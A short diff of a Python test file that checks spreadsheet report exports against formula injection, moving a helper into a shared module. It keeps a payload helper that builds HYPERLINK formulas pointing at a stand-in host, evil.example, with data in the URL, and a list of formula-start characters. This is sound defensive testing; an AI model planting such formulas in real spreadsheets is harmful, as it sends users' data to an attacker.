@@ -18,7 +18,7 @@ from akimat.models import OrgUnit
 from control import reports
 from control.models import ControlItem
 from tests.control.conftest import clock, make_item, mon_2026_03_16, thu_2026_03_19  # noqa: F401 - fixtures
-from tests.spreadsheets import table_cells
+from tests.spreadsheets import read_back, table_cells
 
 pytestmark = pytest.mark.django_db
 
@@ -27,11 +27,6 @@ FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
 
 def payload(start: str, what: str) -> str:
     return f'{start}HYPERLINK("https://evil.example/?{what}","open")'
-
-
-def read_back(text: str) -> str:
-    """What openpyxl reads back from a string cell: a carriage return is a line feed in XML."""
-    return text.replace("\r", "\n")
 
 
 def put_as_typed(item: ControlItem, **texts: str) -> None:
